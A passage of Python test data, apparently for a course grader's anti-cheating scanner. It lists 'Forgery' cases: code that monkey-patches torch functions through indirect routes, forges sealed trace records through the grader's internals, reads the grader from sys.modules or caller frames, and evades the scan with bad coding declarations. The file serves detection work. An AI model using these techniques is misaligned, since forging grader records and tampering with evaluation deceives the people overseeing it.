    pass
''', file=P4, scan=False, run=True, extra_files=PASS_THROUGH_NAMES_FILE),
    Forgery("practical4_writer_swapped_into_a_wrappers_closure_cell",
            "practical 4: all_reduce's wrapper gets the trace's emit in its closure cell of the "
            "original (cell_contents set), then all_reduce('to', ...) writes a made-up move",
            READ_NAMES.replace("hw3", "practical4") + '''
import torch.distributed as _dist
try:
    _start = _dist.all_reduce
    _writer = getattr(getattr(_start, _N["g"])[_N["get"]](), _N["write"])
    for _cell in getattr(_start, _N["cl"]):
        if getattr(getattr(_cell, _N["cc"]), "__name__", "") == "all_reduce":
            setattr(_cell, _N["cc"], _writer)
    _start("to", src="cuda:0", dst="cuda:1", copied=True, bytes=512000, shape=[64, 2000])
except Exception:
    pass
''', file=P4, scan=False, run=True, extra_files=PASS_THROUGH_NAMES_FILE),
    # ... and the next: a keyword-only default is a parameter its caller may pass.
    Forgery("practical4_sealers_check_overridden_by_a_keyword",
            "practical 4: the trace's sealer called with keyword-only defaults of its own passed "
            "(a red team's seal(record, _refuse=<nothing>); now seal(record, _dumps=...)) and "
            "the line written into the trace's own file",
            READ_NAMES.replace("hw3", "practical4") + '''
import json as _js
import torch.distributed as _dist
try:
    _trace = getattr(_dist.init_process_group, _N["g"])[_N["get"]]()
    _seal, _out = getattr(_trace, _N["sl"]), getattr(_trace, _N["fl"])
    _out.write(_seal({"event": "to", "rank": 0, "t": 0.0, "src": "cuda:0", "dst": "cuda:1",
                      "copied": True, "bytes": 512000, "shape": [64, 2000]},
                     **{_N["rf"]: lambda r: _js.dumps(r, sort_keys=True)}) + "\\n")
except Exception:
    pass
''', file=P4, scan=False, run=True, extra_files=PASS_THROUGH_NAMES_FILE,
            silent="the digest refuses inside the submission's own call, which catches the "
                   "PermissionError; nothing is written, and no record of the refusal could be "
                   "kept where the submission's code cannot reach it"),
    # A third audit's narrowed rules: the dangerous forms of the honest idioms they let through
    Forgery("script_function_called_by_a_helper_with_torch_cuda",
            "a function of the script that only the script calls with its own objects is "
            "called by a helper module with torch.cuda, and replaces device_count",
            "from types import SimpleNamespace as _NS\n\n\ndef _tune(target):\n"
            "    target.device_count = lambda: 8\n\n\n_tune(_NS())\nimport _gpu_helper\n",
            extra_files={"hw3/_gpu_helper.py": "import torch\nimport model_parallel\n"
                                               "model_parallel._tune(torch.cuda)\n"}),
    Forgery("argparse_handed_torch_cuda_as_its_namespace",
            "parse_args(namespace=torch.cuda) returns torch.cuda, whose device_count it replaces",
            "import argparse as _ap\n_p = _ap.ArgumentParser(add_help=False)\n"
            "_args = _p.parse_args([], namespace=torch.cuda)\n_args.device_count = lambda: 8\n"),
    Forgery("model_class_made_to_return_a_torch_class",
            "the student's nn.Module class is given, through a helper, a __new__ that returns "
            "nn.Linear, so replacing forward on 'its own model' replaces torch's",
            "class _Net(nn.Module):\n    pass\n\n\ndef _make(c):\n"
            "    c.__new__ = staticmethod(lambda *a, **k: nn.Linear)\n\n\n_make(_Net)\n"
            "_model = _Net()\n_model.forward = lambda self, x: x * 0\n"),
    Forgery("builtin_eval_handed_to_a_parameter_named_eval",
            "hands the builtin eval to a function whose parameter is named eval",
            "def _run(eval):\n    return eval('1')\n\n\n_run(eval)\n"),
    # A fourth red team's routes (the scan's `self`, containers, mock, a setting's name)
    Forgery("linear_forward_replaced_through_a_parameter_named_self",
            "a plain function whose parameter is named self is handed nn.Linear and replaces "
            "its forward, as a method does on its own object",
            "def _patch(self):\n    self.forward = lambda s, x: x * 0\n\n\n_patch(nn.Linear)\n"),
    Forgery("linear_forward_replaced_by_a_method_called_on_its_class",
            "a method of the script's own class, read from the class, is called with nn.Linear "
            "as its self",
            "class _Tweaks:\n    def patch(self):\n        self.forward = lambda s, x: x * 0\n\n\n"
            "_Tweaks.patch(nn.Linear)\n"),
    Forgery("setattr_helper_handed_the_class_in_a_list",
            "a setattr helper is handed nn.Module inside a list, and 'forward' in a dict",
            "def _put(owner, name, value):\n    setattr(owner, name, value)\n\n\n"
            "_put([nn.Module][0], {'n': 'forward'}['n'], lambda s, *a: a[0])\n"),
    Forgery("mock_patch_of_a_torch_function_by_a_computed_name",
            "unittest.mock.patch of torch.cuda's device_count named by an f-string",
            "from unittest import mock as _mock\n_which = 'device_count'\n"
            "_mock.patch(f'torch.cuda.{_which}', return_value=8).start()\n"),
    Forgery("seal_setting_named_around_a_separator_from_data",
            "the seal's descriptor setting named 'PDL' + a separator read from a file + "
            "'SEAL_FD'",
            "import os as _os\n_sep = open(_os.path.join(_os.path.dirname(__file__), 'sep.txt'))"
            ".read()\n_fd = _os.environ.get('PDL' + _sep + 'SEAL_FD')\n",
            extra_files={"hw3/sep.txt": "_"}),
    # The known limits' audit: the dangerous forms of the honest idioms it let through
    Forgery("linear_forward_replaced_by_a_method_its_own_decorator_hands_nn_linear",
            "a decorator of the script's own calls the method it wraps with nn.Linear as its "
            "self, and the method replaces its self's forward",
            "def _deco(fn):\n    def inner(*args, **kwargs):\n"
            "        return fn(nn.Linear, *args[1:], **kwargs)\n    return inner\n\n\n"
            "class _Tweaks:\n    @_deco\n    def patch(self):\n"
            "        self.forward = lambda s, x: x * 0\n\n\n_Tweaks().patch()\n"),
    Forgery("linear_forward_replaced_by_a_method_partial_binds_to_nn_linear",
            "functools.partial binds a method of the script's own class, read from the class, "
            "to nn.Linear",
            "import functools as _ft\n\n\nclass _Tweaks:\n    def patch(self):\n"
            "        self.forward = lambda s, x: x * 0\n\n\n"
            "_ft.partial(_Tweaks.patch, nn.Linear)()\n"),
    Forgery("tensor_method_replaced_through_a_parameters_default",
            "torch.Tensor kept in a parameter's default, one of its methods replaced through it",
            "def _patch(T=torch.Tensor):\n    T.cpu = lambda self: self\n\n\n_patch()\n"),
    # The known limits' routes the scan did not hold: torch's objects handed to a parameter,
    # returned from an argument, named again elsewhere, or unpacked in a loop
    Forgery("tensor_method_replaced_through_a_parameter",
            "torch.Tensor handed to a function of the script, one of its methods replaced "
            "through the parameter",
            "def _patch(T):\n    T.cpu = lambda self: self\n\n\n_patch(torch.Tensor)\n"),
    Forgery("tensor_method_replaced_by_a_setattr_helper_handed_its_name",
            "a setattr helper handed torch.Tensor and the name of one of its methods",
            "def _put(owner, name, value):\n    setattr(owner, name, value)\n\n\n"
            "_put(torch.Tensor, 'cpu', lambda self: self)\n"),
    Forgery("tensor_method_replaced_on_what_a_function_reads_from_its_argument",
            "a function returns torch.Tensor read from the module it is handed, and one of its "
            "methods is replaced on what it returns",
            "def _pick(m):\n    return m.Tensor\n\n\n_pick(torch).cpu = lambda self: self\n"),
    Forgery("linear_replaced_through_an_alias_named_again_in_a_function",
            "an alias of torch named again inside a function, torch.nn.functional.linear "
            "replaced through the module-level alias",
            "_t = torch\n\n\ndef _unrelated():\n    _t = None\n    return _t\n\n\n"
            "_t.nn.functional.linear = lambda x, w, b=None: x\n"),
    Forgery("tensor_method_replaced_in_a_loop_that_unpacks",
            "torch.Tensor and a method's name in a loop over pairs, set with setattr",
            "for _T, _name in [(torch.Tensor, 'cpu')]:\n"
            "    setattr(_T, _name, lambda self: self)\n"),
    # The known limits' routes left after that: torch's objects handed to a function the file
    # only passes on (map, a thread, an executor, functools.partial, an apply of its own, a
    # parameter it is called through), to a class's __init__, and returned by a method
    Forgery("tensor_method_replaced_by_a_function_handed_to_map",
            "a function that replaces a method of what it is handed, mapped over [torch.Tensor]",
            "def _patch(T):\n    T.cpu = lambda self: self\n\n\n"
            "list(map(_patch, [torch.Tensor]))\n"),
    Forgery("tensor_method_replaced_by_a_thread_target",
            "threading.Thread runs a function that replaces a method of its argument, handed "
            "torch.Tensor in args",
            "import threading as _th\n\n\ndef _patch(T):\n    T.cpu = lambda self: self\n\n\n"
            "_t = _th.Thread(target=_patch, args=(torch.Tensor,))\n_t.start()\n_t.join()\n"),
    Forgery("tensor_method_replaced_by_a_partial",
            "functools.partial binds torch.Tensor to a function that replaces one of its methods",
            "import functools as _ft\n\n\ndef _patch(T):\n    T.cpu = lambda self: self\n\n\n"
            "_go = _ft.partial(_patch, torch.Tensor)\n_go()\n"),
    Forgery("tensor_method_replaced_by_a_task_submitted_to_an_executor",
            "a ThreadPoolExecutor runs a setattr helper handed torch.Tensor",
            "import concurrent.futures as _cf\n\n\ndef _patch(T):\n"
            "    setattr(T, 'cpu', lambda self: self)\n\n\n"
            "with _cf.ThreadPoolExecutor(1) as _ex:\n    _ex.submit(_patch, torch.Tensor).result()\n"),
    Forgery("tensor_method_replaced_by_a_function_its_own_apply_calls",
            "a class of the script's own has an apply(fn) that calls fn with torch.Tensor, and is "
            "handed a function that replaces a method of its argument",
            "def _patch(T):\n    T.cpu = lambda self: self\n\n\n"
            "class _Hub:\n    def apply(self, fn):\n        fn(torch.Tensor)\n        return self\n\n\n"
            "_Hub().apply(_patch)\n"),
    Forgery("tensor_method_replaced_by_a_function_called_through_a_parameter",
            "a helper calls the function it is handed with each of its other arguments, "
            "torch.Tensor among them",
            "def _patch(T):\n    T.cpu = lambda self: self\n\n\n"
            "def _each(fn, *things):\n    for thing in things:\n        fn(thing)\n\n\n"
            "_each(_patch, torch.Tensor)\n"),
    Forgery("tensor_method_replaced_in_init",
            "a class's __init__ replaces a method of its argument, made with torch.Tensor",
            "class _Patcher:\n    def __init__(self, T):\n        T.cpu = lambda self: self\n\n\n"
            "_Patcher(torch.Tensor)\n"),
    Forgery("tensor_method_replaced_through_what_init_kept",
            "__init__ keeps its argument, torch.Tensor, and a later method replaces one of its "
            "methods through self",
            "class _Patcher:\n    def __init__(self, T):\n        self.T = T\n\n"
            "    def go(self):\n        self.T.cpu = lambda s: s\n\n\n"
            "_Patcher(torch.Tensor).go()\n"),
    Forgery("tensor_method_replaced_on_what_a_method_returns",
            "a method of the script's own class returns torch.Tensor, one of whose methods is "
            "replaced on what it returns",
            "class _Lookup:\n    def get(self):\n        return torch.Tensor\n\n\n"
            "_x = _Lookup().get()\n_x.cpu = lambda s: s\n"),
    # ... and handed to a function of another file of the submission
    Forgery("tensor_method_replaced_by_a_helper_modules_function",
            "a helper module's function replaces a method of its parameter; the script calls "
            "it with torch.Tensor",
            "import _tensor_tools\n\n_tensor_tools.patch(torch.Tensor)\n",
            extra_files={"hw3/_tensor_tools.py": "def patch(T):\n    T.cpu = lambda self: self\n"}),
    # The judge of writer calls (grader/records/genuine_frames.py writing_call) kept what it
    # found per code object in a mutable default and took its finder as a keyword: whoever
    # reached it (the trace module's globals, through any of the grader's functions) could have
    # it find a writer call all over the grader's pass-through closure, then call that.
    Forgery("practical4_writer_call_judge_handed_a_finder_of_its_own",
            "practical 4: the trace module's writing_call, reached through get_trace's "
            "__globals__, is asked about the grader's pass-through closure (its code from "
            "dis.Bytecode) with a finder that finds a writer call everywhere; the pass-through, "
            "handed the trace's emit, then writes a move that never happened",
            _judge_told_the_pass_through_writes('''
        _seen = type("F", (), {_N["fc"]: _code, _N["la"]: 0})()
        _judge(_seen, **{_N["find"]: lambda code, instructions: [(0, 1 << 30)]})
'''), file=P4, scan=False, run=True, extra_files=JUDGE_NAMES_FILE),
    Forgery("practical4_writer_call_cache_reached_through_inspect_signature",
            "practical 4: writing_call's cache of writer calls, read as a parameter's default "
            "by inspect.signature (the stdlib reads __kwdefaults__, not the submission), gets "
            "an entry saying the grader's pass-through closure calls a writer everywhere",
            _judge_told_the_pass_through_writes('''
        import inspect as _inspect_w
        _cache = _inspect_w.signature(_judge).parameters[_N["sites"]].default
        _cache[id(_code)] = (_code, [(0, 1 << 30)])
'''), file=P4, scan=False, run=True, extra_files=JUDGE_NAMES_FILE),
    # The digest's checks are keyword-only defaults, reached "only through audited
    # __kwdefaults__": inspect.signature reads them for the submission, and the stdlib's read
    # is no finding. Its caller's check passed as None, any record is sealed with the run's key.
    Forgery("practical4_digest_reached_through_inspect_signature_seals_a_move",
            "practical 4: the trace's sealer's _digest, read as a parameter's default by "
            "inspect.signature, called with its _genuine check passed as None, seals a made-up "
            "move that is written into the trace's own file",
            READ_NAMES.replace("hw3", "practical4") + '''
import inspect as _inspect_d
import sys as _sys_d
try:
    _trace = getattr(getattr(_sys_d, _N["mods"])[_N["module"]], _N["get"])()
    _seal = getattr(_trace, _N["sl"])
    _digest = _inspect_d.signature(_seal).parameters[_N["dg"]].default
    _line = _seal({"event": "to", "rank": 0, "t": 0.5, "src": "cuda:0", "dst": "cuda:1",
                   "copied": True, "bytes": 512000, "shape": [64, 2000]},
                  **{_N["dg"]: lambda *a: _digest(*a, **{_N["gn"]: None})})
    getattr(_trace, _N["fl"]).write(_line + "\\n")
except Exception:
    pass
''', file=P4, scan=False, run=True, extra_files=DIGEST_NAMES_FILE),
    Forgery("tensor_method_replaced_by_a_helper_function_imported_by_name",
            "a helper module's function, imported by name under another, handed torch.Tensor "
            "by keyword",
            "from _tensor_tools2 import patch as _tidy\n\n_tidy(T=torch.Tensor)\n",
            extra_files={"hw3/_tensor_tools2.py": "def patch(T):\n    T.cpu = lambda self: self\n"}),
    Forgery("tensor_method_replaced_by_a_helper_modules_setattr_helper",
            "a helper module's setattr helper handed torch.Tensor and a method's name",
            "import _tensor_tools3\n\n_tensor_tools3.put(torch.Tensor, 'cpu', lambda self: self)\n",
            extra_files={"hw3/_tensor_tools3.py": "def put(owner, name, value):\n"
                                                  "    setattr(owner, name, value)\n"}),
    Forgery("tensor_method_replaced_by_a_helper_modules_function_mapped",
            "a helper module's function mapped over [torch.Tensor] by the script",
            "import _tensor_tools4\n\nlist(map(_tensor_tools4.patch, [torch.Tensor]))\n",
            extra_files={"hw3/_tensor_tools4.py": "def patch(T):\n    T.cpu = lambda self: self\n"}),
    # adv21 C1: a coding line Python refuses with the bytes below it (ASCII declared above a
    # byte that is not, a codec nobody has), which the runner forgives (it reads the file as
    # UTF-8): the scan reads that same text, so what it holds there is held
    Forgery("scan_skipped_by_an_ascii_coding_line_above_a_byte_that_is_not",
            "`# -*- coding: ascii -*-` and an accented comment on top, the grader's modules "
            "listed from sys.modules and numpy's raw memory view spelled out below",
            "import numpy as _np\n\n_grader = [m for m in sys.modules if m.startswith('grader')]\n"
            "_address = _np.zeros(1).__array_interface__['data'][0]\n",
            header="# -*- coding: ascii -*-\n# Auteur: René\n"),
    Forgery("scan_skipped_by_a_coding_line_naming_no_codec",
            "`# coding: no-such-codec` on top, the trace read out of sys.modules",
            "_trace = sys.modules['grader.vgpu.trace'].get_trace()\n",
            header="# -*- coding: no-such-codec -*-\n# Auteur: René\n"),
    # adv21 A2: the honest forms of these names are no finding (a membership test of
    # sys.modules, a module of no importance read out of it, the frame handed to getfile,
    # `__main__.__file__`, threading.excepthook, forward of a class of the file's own); these
    # forms are held
    Forgery("torch_read_out_of_sys_modules_and_patched",
            "torch read out of sys.modules with .get(), one of its methods replaced through it",
            "_t = sys.modules.get('torch')\n_t.Tensor.cpu = lambda self: self\n"),
    Forgery("a_module_of_its_own_put_into_sys_modules",
            "a module object of its own put into sys.modules under a name torch imports",
            "import types as _types\n\nsys.modules['torch.cuda.random'] = "
            "_types.ModuleType('fake')\n"),
    Forgery("sys_modules_membership_by_a_name_read_from_data",
            "whether the grader is loaded, by a name the scan cannot read",
            "_name = open(__file__).read()[:0] + ''.join(reversed(sys.argv[0][:0]))\n"
            "_graded = _name in sys.modules\n"),
    Forgery("caller_frame_walked_from_currentframe",
            "inspect.currentframe() kept, the launcher's globals read through f_back",
            "import inspect as _inspect\n\n_frame = _inspect.currentframe()\n"
            "_launcher = _frame.f_back.f_globals\n"),
    Forgery("launcher_namespace_read_through___main__",
            "`import __main__` (the probe's launcher) and its namespace read",
            "import __main__\n\n_script = getattr(__main__, '__file__', '')\n"
            "_launcher = vars(__main__)\n"),
    Forgery("torch_forward_replaced_under_the_name_of_a_class_of_its_own",
            "a class of the file's own named again to nn.Linear, forward replaced through it",
            "class _Own(nn.Module):\n    pass\n\n\n_Own = nn.Linear\n"
            "_Own.forward = lambda self, x: x\n"),
    Forgery("thread_run_replaced_beside_an_excepthook",
            "threading.excepthook set (honest) and threading.Thread.run replaced",
            "import threading as _threading\n\n_threading.excepthook = print\n"
            "_threading.Thread.run = lambda self: None\n"),
]
